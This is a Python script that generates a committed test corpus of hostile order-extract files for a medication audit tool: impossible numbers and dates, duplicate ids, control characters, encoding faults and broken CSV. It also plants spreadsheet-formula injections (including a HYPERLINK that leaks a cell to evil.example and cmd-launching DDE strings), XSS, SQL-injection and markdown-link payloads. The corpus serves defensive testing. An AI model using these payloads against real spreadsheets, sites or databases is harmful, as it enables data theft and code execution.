"""Generate the hostile-extract corpus of tests/hostile/ (deterministic; the generated files are committed).

    .venv/bin/python tests/hostile/make_corpus.py

Each file is a small orders extract (canonical columns) that tries to break ingest, the audit, the
database write or the report: huge and negative numbers, impossible dates, duplicate ids, 10,000-character
fields, control characters, a NUL byte, mixed encodings, spreadsheet-formula and HTML payloads, SQL
text, a BOM with CRLF line ends and quoted newlines, ragged and broken CSV.

`manifest.json` lists every file with the outcome the audit must reach (tests/test_reliability_hostile.py):
  "audited"  read and audited; every row is accounted for (audited, passed through, out of scope,
             unrecognised immunoglobulin, or quarantined with a reason)
  "refused"  the whole file is refused with a one-line ExtractError (nothing written)
and the payload strings planted in it (they must never reach index.html unescaped or a worklist
cell as a live formula).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent

COLUMNS = [
    "order_id", "patient_id", "encounter_id", "facility", "medication", "dose", "dose_unit", "doses", "start",
    "route", "weight_kg", "height_cm", "sex", "age_years", "birth_date", "indication", "indication_code",
    "pregnant", "pre_pregnancy_weight_kg", "justification", "prescriber_id", "service", "ndc",
]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "=1+1",
    "\t=cmd",
]
HTML = [
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(2)>',
    "<a href=\"javascript:alert(3)\">x</a>",
    "</td></tr></table><iframe src=//evil.example>",
    "{{ 7*7 }}{% raw %}",
]
SQL = ["'; DROP TABLE findings; --", "x' OR '1'='1", 'Robert"); DELETE FROM runs; --']
MARKDOWN = [
    "[click me](javascript:alert(1))",
    "![pixel](https://evil.example/track.png)",
    "<https://evil.example/autolink>",
    "see https://evil.example/bare",
    "www.evil.example",
    "mail me@evil.example",
    "[ref]: https://evil.example/refdef",
]

BASE = {
    "encounter_id": "E1", "facility": "North General", "medication": "Privigen 10%", "dose": "28", "dose_unit": "g",
    "doses": "1", "start": "2026-06-01 09:00:00", "route": "IV", "weight_kg": "70", "height_cm": "175", "sex": "M",
    "age_years": "45", "indication": "GBS", "prescriber_id": "DR001", "service": "Neurology",
}


def row(order_id: str, patient_id: str, **kw: str) -> dict[str, str]:
    return BASE | {"order_id": order_id, "patient_id": patient_id} | kw


def csv_text(rows: list[dict[str, str]], line_end: str = "\n") -> str:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=COLUMNS, lineterminator=line_end)
    writer.writeheader()
    for r in rows:
        writer.writerow({c: r.get(c, "") for c in COLUMNS})
    return buffer.getvalue()


def payload_rows(prefix: str, payloads: list[str]) -> list[dict[str, str]]:
    """Each payload planted in every free-text and id column that reaches findings, the report or the worklist."""
    rows = []
    for i, p in enumerate(payloads):
        n = f"{prefix}{i}"
        # unrecognised indication: the text is quoted in the finding's message and observed value
        rows.append(row(f"{n}-a", p, indication=p, service=p, prescriber_id=p, facility=p, justification=p))
        # payload as an order id and in a not-routine indication (MS) with a justification
        rows.append(row(p, f"P{n}b", indication="multiple sclerosis " + p, justification=p))
        # a name that looks like an immunoglobulin but is not in the dictionary: quoted in its finding
        rows.append(row(f"{n}-c", f"P{n}c", medication="immune globulin " + p))
        # repeat course without justification text (observed quotes it)
        rows.append(row(f"{n}-d", f"P{n}d", start="2026-01-01 09:00:00"))
        rows.append(row(f"{n}-e", f"P{n}d", start="2026-03-01 09:00:00", justification=p, service=p))
    return rows


def parquet_bytes(frame) -> bytes:
    """A Parquet file of a frame, written without statistics or compression so the bytes are stable."""
    buffer = io.BytesIO()
    frame.write_parquet(buffer, compression="uncompressed", statistics=False)
    return buffer.getvalue()


def corpus() -> dict[str, tuple[bytes, str, list[str]]]:
    """file name -> (bytes, expected outcome, planted payloads)."""
    import polars as pl

    files: dict[str, tuple[bytes, str, list[str]]] = {}

    def add(name: str, data: str | bytes, outcome: str = "audited", payloads: list[str] | None = None) -> None:
        files[name] = (data.encode("utf-8") if isinstance(data, str) else data, outcome, payloads or [])

    add("huge_numbers.csv", csv_text([
        row("H1", "PH1", dose="1e308"),
        row("H2", "PH2", dose="100000000000000000000"),          # 10^20 grams
        row("H3", "PH3", dose="1e400"),                           # overflows to inf
        row("H4", "PH4", dose="28", doses="100000000000000000000"),  # 10^20 daily doses
        row("H5", "PH5", dose="28", doses="1e308"),
        row("H6", "PH6", weight_kg="1e308", height_cm="1e308", age_years="1e308"),
        row("H7", "PH7", dose="2", dose_unit="g/kg", weight_kg="1e308"),
        row("H8", "PH8", dose="1e308", dose_unit="mL"),
        row("H9", "PH9", dose="1e308", dose_unit="mg"),
        row("H10", "PH10", dose="99999999999999999999999999999999999999999999"),
        row("H11", "PH11", dose="NaN"),
        row("H12", "PH12", dose="inf"),
        row("H13", "PH13", dose="-inf"),
        row("H14", "PH14", dose="1e-320"),                        # subnormal, above zero
        row("H15", "PH15", dose="9" * 400),
        row("H16", "PH16", doses="2.5"),
        row("H17", "PH17", age_years="-1e308", weight_kg="NaN"),
    ]))
    add("negative_zero_doses.csv", csv_text([
        row("N1", "PN1", dose="-28"),
        row("N2", "PN2", dose="0"),
        row("N3", "PN3", dose="-0"),
        row("N4", "PN4", dose="0.0000"),
        row("N5", "PN5", dose="28", doses="0"),
        row("N6", "PN6", dose="28", doses="-3"),
        row("N7", "PN7", dose="28", weight_kg="-70"),
        row("N8", "PN8", dose="28", weight_kg="0", height_cm="0"),
        row("N9", "PN9", dose="-1,000"),
        row("N10", "PN10", dose="-0.4", dose_unit="g/kg"),
        row("N11", "PN11", dose="28", age_years="-5"),
    ]))
    add("far_dates.csv", csv_text([
        row("D1", "PD1", start="9999-12-31 23:59:59"),
        row("D2", "PD2", start="0001-01-01 00:00:00"),
        row("D3", "PD3", start="1899-12-31 09:00:00"),
        row("D4", "PD4", start="1900-02-29 09:00:00"),           # not a date
        row("D5", "PD5", start="2026-02-30 09:00:00"),           # not a date
        row("D6", "PD6", start="99999-01-01 09:00:00"),
        row("D7", "PD7", start="2026-11-01 25:61:00"),
        row("D8", "PD8", start="9999-12-31", doses="5"),          # doses run past year 9999
        row("D9", "PD9", start="2026-06-01", birth_date="9999-12-31"),
        row("D10", "PD10", start="2026-06-01", birth_date="0001-01-01", age_years=""),
        row("D11", "PD11", start="-2026-06-01"),
        row("D12", "PD12", start="1970-01-01 00:00:00"),
        row("D13", "PD13", start="2026-06-01T09:00:00Z"),
    ]))
    add("duplicate_ids.csv", csv_text([
        row("DUP1", "PU1", dose="28"),
        row("DUP1", "PU1", dose="56"),                # same id, different content
        row("DUP2", "PU2"),
        row("DUP2", "PU2"),                           # exact duplicate
        row("DUP3", "PU3"),
        row("DUP3", "PU4"),                           # same order id, another patient
        row("DUP4", "PU5"), row("DUP4", "PU5"), row("DUP4", "PU5", dose="30"),
    ]))
    long = "A" * 10_000
    add("long_fields.csv", csv_text([
        row("L1", "P" + "9" * 10_000),
        row("O" + "7" * 10_000, "PL2"),
        row("L3", "PL3", indication="GBS " + long, justification=long),
        row("L4", "PL4", medication="Privigen " + long),
        row("L5", "PL5", medication="immune globulin " + long),
        row("L6", "PL6", indication=long, service=long, prescriber_id=long, facility=long),
        row("L7", "PL7", dose="2" * 10_000),
        row("L8", "PL8", start="2" * 10_000),
        row("L9", "PL9", dose_unit="g" * 10_000),
    ]))
    controls = "".join(chr(c) for c in range(1, 32) if chr(c) not in "\r\n") + "\x7f"
    add("control_chars.csv", csv_text([
        row("C1", "PC1" + controls, indication="GBS" + controls),
        row("C2" + "\x1b[31m", "PC2", indication="\x1b[2J\x1b[31mITP", service="\x08\x08\x08Neuro"),
        row("C3", "PC3", indication="\u202egnp.exe ITP", justification="\u200b\u200d\ufeff zero width"),
        row("C4", "PC4\x0b\x0c", medication="Privigen\x0b10%", dose="\x0928"),
        row("C5", "PC5", indication="kawasaki \U0001F600 e\u0301", dose="2", dose_unit="g/kg", weight_kg="20",
            height_cm="110", age_years="4"),
    ]))
    add("nul_byte.csv", csv_text([row("Z1", "PZ1"), row("Z2", "PZ\x002")]), "refused")
    mixed = csv_text([row("M1", "PM1", indication="syndrome de Guillain-Barré"), row("M2", "PM2")]).encode("utf-8")
    mixed = mixed.replace(b"PM2", b"PM2 Fran\xe7ois")             # one Latin-1 byte in a UTF-8 file
    add("mixed_encoding_latin1.csv", mixed)
    add("mixed_encoding_undefined_byte.csv",
        csv_text([row("M3", "PM3")]).encode("utf-8").replace(b"PM3", b"PM3\x81\x8d"), "refused")
    add("formula_payloads.csv", csv_text(payload_rows("F", FORMULAS)), payloads=FORMULAS)
    add("html_payloads.csv", csv_text(payload_rows("X", HTML)), payloads=HTML)
    add("sql_payloads.csv", csv_text(payload_rows("S", SQL)), payloads=SQL)
    bom = "\ufeff" + csv_text([
        row("B1", "PB1", indication='GBS, "quoted", with\nnew line\r\nand CRLF', justification="line one\nline two"),
        row("B2", "PB2", medication='Privigen\n10%', service="Neuro,\nlogy"),
        row("B3", "PB3", indication="\n\n\n"),
    ], line_end="\r\n")
    add("bom_crlf_quoted_newlines.csv", bom)
    add("units_and_text_numbers.csv", csv_text([
        row("U1", "PU1", dose="28 g"), row("U2", "PU2", dose="٢٨"), row("U3", "PU3", dose="0x1C"),
        row("U4", "PU4", dose="1_000"), row("U5", "PU5", dose=" 28 "), row("U6", "PU6", dose="1-2"),
        row("U7", "PU7", dose_unit="vials"), row("U8", "PU8", dose_unit=""), row("U9", "PU9", dose="2,8"),
        row("U10", "PU10", dose="10,000", dose_unit="mg"), row("U11", "PU11", dose="280", dose_unit="mL"),
        row("U12", "PU12", dose="0.4", dose_unit="g/kg", weight_kg=""),
        row("U13", "PU13", medication="Gamunex-C", route="SC"), row("U14", "PU14", medication="HyperHEP B"),
        row("U15", "PU15", medication="Aspirin 81 mg", dose="81", dose_unit="mg"),
        row("U16", "PU16", sex="\u2642", pregnant="maybe", weight_kg="176 lb", height_cm="5' 10\""),
    ]))
    add("header_only.csv", ",".join(COLUMNS) + "\n")
    add("ragged_row_too_many_fields.csv", csv_text([row("R1", "PR1")]) + ",".join(["R2"] * (len(COLUMNS) + 3)) + "\n",
        "refused")
    add("short_row_too_few_fields.csv", csv_text([row("R3", "PR3")]) + "R4,PR4,too,few\n")  # missing cells: null
    add("unterminated_quote.csv", csv_text([row("Q1", "PQ1")]) + 'Q2,"PQ2,never closed\n', "refused")
    add("only_blank_cells.csv", ",".join(COLUMNS) + "\n" + ",".join([""] * len(COLUMNS)) + "\n")
    add("utf16_with_bom.csv", csv_text([row("W1", "PW1", indication="Guillain–Barré")]).encode("utf-16"))

    # ---- issue 14: never guess, never crash
    add("markdown_payloads.csv", csv_text(payload_rows("K", MARKDOWN)), payloads=MARKDOWN)
    # 5 January in a UK extract: never read month-first; the file is refused naming the layout to declare
    add("uk_day_first_dates.csv", csv_text([
        row(f"UK{d}", "PUK1", start=f"{d:02d}/01/2026 09:00", birth_date="05/03/1950") for d in range(1, 6)
    ]), "refused")
    add("us_month_first_dates.csv", csv_text([
        row(f"US{d}", "PUS1", start=f"1/{d}/2026 9:00:00 AM") for d in range(13, 18)
    ] + [row("US9", "PUS1", start="2026-01-09 09:00")]), "refused")
    add("iso_offsets.csv", csv_text([
        row("Z1", "PZZ1", start="2026-06-01T09:00:00Z"),
        row("Z2", "PZZ1", start="2026-06-02T10:00:00+01:00"),
        row("Z3", "PZZ1", start="2026-06-03T04:00:00-05:00"),
        row("Z4", "PZZ1", start="2026-06-04T09:00:00.5+0100"),
        row("Z5", "PZZ2", start="2026-06-01 09:00:00 BST"),              # not ISO: quarantined
    ]))
    add("nan_inf_values.csv", csv_text([
        row("V1", "PV1", age_years="NaN"),
        row("V2", "PV2", age_years="inf"),
        row("V3", "PV3", age_years="-inf"),
        row("V4", "PV4", sex="F", pregnant="yes", pre_pregnancy_weight_kg="NaN"),
        row("V5", "PV5", sex="F", pregnant="yes", pre_pregnancy_weight_kg="inf"),
        row("V6", "PV6", weight_kg="NaN", height_cm="inf"),
        row("V7", "PV7", age_years="200"),
        row("V8", "PV8", sex="F", pregnant="yes", pre_pregnancy_weight_kg="900"),
        row("V9", "PV9", birth_date="2030-01-01", age_years=""),          # born after the order
        row("V10", "PV10", birth_date="05/03/1950", age_years=""),        # not ISO: not guessed
        row("V11", "PV11"),                                               # a good row among them
    ]))
    add("zero_after_conversion.csv", csv_text([
        row("T1", "PT1", dose="1e-323", dose_unit="mg"),
        row("T2", "PT2", dose="0.000001", dose_unit="g"),
        row("T3", "PT3", dose="1e-300", dose_unit="g/kg"),
        row("T4", "PT4", dose="5e-324", dose_unit="mL"),
        row("T5", "PT5"),
    ]))
    add("huge_doses_count.csv", csv_text([
        row("C1", "PDC1", doses="10000000000"),      # ten billion daily doses: would exhaust memory
        row("C2", "PDC2", doses="367"),
        row("C3", "PDC3", doses="366"),
        row("C4", "PDC4", medication="Aspirin 81 mg", dose="81", dose_unit="mg", doses="9999999999",
            indication="Kawasaki disease"),
        row("C5", "PDC4", dose="2", dose_unit="g/kg", weight_kg="20", height_cm="110", age_years="4",
            indication="Kawasaki disease"),
    ]))
    header = ",".join(COLUMNS + ["dose"]) + "\n"
    add("duplicate_dose_column.csv", header + ",".join(
        [row("DD1", "PDD1").get(c, "") for c in COLUMNS] + ["5600"]) + "\n", "refused")
    add("duplicate_column_other_case.csv", csv_text([row("DC1", "PDC1")]).replace("order_id,", "order_id,Patient_ID,", 1)
        .replace("\nDC1,", "\nDC1,PX,", 1), "refused")
    big = csv_text([row(f"B{i}", f"PB{i}") for i in range(1000)])
    assert len(big.encode()) > 65536
    add("nul_after_64k.csv", big[:-20] + "\x00" + big[-20:], "refused")
    base = pl.DataFrame([row(f"PQ{i}", f"PPQ{i}", start=f"2026-06-0{i + 1} 09:00:00") for i in range(3)])
    add("tz_aware_start.parquet", parquet_bytes(base.with_columns(
        pl.col("start").str.strptime(pl.Datetime("us"), "%Y-%m-%d %H:%M:%S").dt.replace_time_zone("Europe/London"),
        pl.col("weight_kg").cast(pl.Float64), pl.col("doses").cast(pl.Int64),
    )))
    add("unused_nested_columns.parquet", parquet_bytes(base.with_columns(
        tags=pl.lit(["a", "b"]), meta=pl.struct(source=pl.lit("pharmacy"), n=pl.lit(1)), blob=pl.lit(b"\x00\x01"),
    )))
    return files


def main() -> None:
    manifest = {}
    for name, (data, outcome, payloads) in sorted(corpus().items()):
        (HERE / name).write_bytes(data)
        manifest[name] = {"outcome": outcome, "payloads": payloads}
    (HERE / "manifest.json").write_text(json.dumps(manifest, indent=1, ensure_ascii=True) + "\n", encoding="utf-8")
    print(f"wrote {len(manifest)} hostile extracts to {HERE}")


if __name__ == "__main__":
    main()
